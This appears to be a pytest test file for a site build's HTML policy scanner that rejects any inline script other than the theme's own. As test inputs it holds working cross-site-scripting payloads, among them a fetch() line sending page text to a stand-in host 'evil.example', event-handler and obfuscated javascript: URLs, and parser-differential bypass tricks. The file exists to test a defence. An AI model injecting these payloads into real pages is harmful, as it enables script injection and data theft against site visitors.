"""Only the theme's own inline scripts pass: anything else inline in a page stops the build, naming the page."""

from __future__ import annotations

from pathlib import Path

import pytest

from keyguide.browser import BrowserAssets, PolicyError
from keyguide.browser.scan import scan_page
from keyguide.browser.theme import AllowedScripts

ROOT = Path(__file__).resolve().parents[3]
THEME_SCRIPT = '__md_scope=new URL("..",location)'
ALLOWED = AllowedScripts(
    frozenset({((), THEME_SCRIPT)}),
    frozenset({(("id", "__config"), ("type", "application/json"))}),
)


def page(body: str = "", head: str = "") -> str:
    return (
        '<!doctype html><html><head><meta charset="utf-8">'
        f"<script>{THEME_SCRIPT}</script>"
        '<script id="__config" type="application/json">{"base": ".."}</script>'
        f"{head}</head><body><p>text</p>{body}</body></html>"
    )


def secure(html: str) -> str:
    return BrowserAssets(ROOT, site_url="http://127.0.0.1:8000/").secure_html(
        html, where="venues/x.md", page_dir="venues/x", allowed=ALLOWED
    )


def test_the_theme_scripts_alone_pass() -> None:
    """Positive control for every refusal below."""
    assert '<meta http-equiv="Content-Security-Policy"' in secure(page())


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ("<script>fetch('https://evil.example/'+document.body.innerText)</script>", "inline <script> the theme"),
        ("<SCRIPT type='module'>import('https://evil.example/x.js')</SCRIPT>", "inline <script> the theme"),
        ('<script type="text/javascript">' + THEME_SCRIPT + ";1</script>", "inline <script> the theme"),
        # The theme's text, but not as the theme writes it (an attribute more).
        (f'<script id="x">{THEME_SCRIPT}</script>', "inline <script> the theme"),
        ('<script type="application/json" id="__other">{}</script>', "inline <script> the theme"),
        ('<script type="importmap">{"imports": {}}</script>', "inline <script> the theme"),
        ('<script type="speculationrules">{"prefetch": []}</script>', "inline <script> the theme"),
        ("<script/>alert(1)</script>", "inline <script> the theme"),
        ('<img src="x" onerror="alert(1)">', "event-handler attribute onerror= on <img>"),
        ('<p id="a" OnClick="alert(1)">x</p>', "event-handler attribute onclick= on <p>"),
        ('<svg><a onfocusin="x()"></a></svg>', "event-handler attribute onfocusin="),
        ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "a jav\tascript: URL in href="),
        ('<a href="JAVASCRIPT:alert(1)">x</a>', "URL in href= on <a>"),
        ('<form><button formaction="javascript:x()">b</button></form>', "URL in formaction= on <button>"),
        ('<meta http-equiv="refresh" content="5;url=https://evil.example/">', "meta http-equiv=refresh"),
        # Parser differentials that would hide a handler from this scan while a browser runs it:
        # comments a browser ends early, <style> text a browser reads as tags inside SVG/MathML,
        # an SVG animation that sets a link's href, markup the standard library parser refuses.
        ("<!--><img src=x onerror=alert(1)>-->", "a comment a browser ends earlier"),
        ("<!---><img src=x onerror=alert(1)>-->", "a comment a browser ends earlier"),
        ("<!-- a --!><img src=x onerror=alert(1)> -->", "a comment a browser ends earlier"),
        ("<svg><style><img src=x onerror=alert(1)></style></svg>", "markup in a <style> inside <svg>"),
        ("<math><style><img src=x onerror=alert(1)></style></math>", "markup in a <style> inside <svg> or <math>"),
        (
            '<svg><a><animate attributeName="href" values="javascript:x()"/><text>t</text></a></svg>',
            "<animate> changing href=",
        ),
        ('<svg><a><set attributeName="xlink:href" to="javascript:x()"/></a></svg>', "<set> changing xlink:href="),
        ("<![foo <img src=x onerror=alert(1)>]]>", "markup the HTML parser cannot read"),
    ],
)
def test_anything_else_stops_the_build_naming_the_page(body: str, problem: str) -> None:
    with pytest.raises(PolicyError) as caught:
        secure(page(body))
    message = str(caught.value)
    assert message.startswith("venues/x.md: ")
    assert problem in message


def test_a_script_in_head_is_refused_too() -> None:
    with pytest.raises(PolicyError, match="inline <script> the theme does not write"):
        secure(page(head="<script>x()</script>"))


def test_a_script_the_parser_cannot_see_is_refused() -> None:
    """Parser differential: a `<script` the HTML parser reads as text still counts against the page."""
    html = page(body="<!-- <script>x()</script> -->")
    assert len(scan_page(html).inline_scripts) == 2  # the parser sees the two theme scripts only
    with pytest.raises(PolicyError, match="markup a browser may read differently"):
        secure(html)


def test_event_handler_words_in_text_are_not_attributes() -> None:
    text = "<p>Material's buttons never use onclick=&quot;…&quot; and neither do we: &lt;img onerror=x&gt;</p>"
    assert scan_page(page(text)).hazards == ()
    secure(page(text))


def test_scripts_in_script_text_are_counted_once() -> None:
    scan = scan_page(page())
    assert [s.text for s in scan.inline_scripts] == [THEME_SCRIPT, '{"base": ".."}']
    assert [s.executable for s in scan.inline_scripts] == [True, False]


def test_look_alikes_of_those_differentials_pass() -> None:
    """Negative side of the cases above: an ordinary comment, CSS in SVG, an animation of a colour."""
    body = (
        "<!-- a comment -- with dashes --><svg><style>.a>b{fill:red}</style>"
        '<rect><animate attributeName="fill" values="red;blue"/></rect></svg><style>p>a{}</style>'
    )
    assert scan_page(page(body)).hazards == ()
    secure(page(body))
